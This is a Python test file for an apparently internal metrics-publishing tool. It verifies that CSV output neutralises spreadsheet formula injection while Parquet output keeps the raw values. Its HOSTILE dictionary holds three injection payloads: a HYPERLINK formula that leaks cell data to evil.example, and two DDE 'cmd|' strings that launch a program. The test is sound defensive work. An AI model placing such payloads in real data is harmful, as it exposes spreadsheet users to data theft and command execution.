"""Published CSV files are safe to open in a spreadsheet (issue 14, case 5): organisation
names such as `=HYPERLINK(...)`, `+cmd|` and `@SUM(` are neutralised in every CSV cell, the
Parquet files keep them as they were, and the data dictionary says how."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
import test_publish

from metrics_cli.files import CSV_SAFETY_NOTE, safe_cell
from metrics_cli.publish import publish

HOSTILE = {
    "A1": '=HYPERLINK("http://evil.example/?"&A1,"Abbey")',
    "A2": "+cmd|' /C calc'!A0",
    "A3": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_published_csv_cells_never_start_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(test_publish, "NAMES", {**test_publish.NAMES, **HOSTILE})
    warehouse = test_publish.build_warehouse(tmp_path / "warehouse.duckdb")
    out = tmp_path / "published"

    publish(warehouse, out)

    csv_files = sorted(out.glob("*.csv"))
    assert csv_files
    for path in csv_files:
        rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
        assert all(safe_cell(cell) == cell for row in rows for cell in row), path.name
    text = (out / "metric_values.csv").read_text(encoding="utf-8")
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    assert {"'" + name for name in HOSTILE.values()} <= cells
    assert not set(HOSTILE.values()) & cells
    names = set(pl.read_parquet(out / "metric_values.parquet").get_column("geography_name"))
    assert set(HOSTILE.values()) <= names
    assert CSV_SAFETY_NOTE in (out / "data_dictionary.md").read_text(encoding="utf-8")
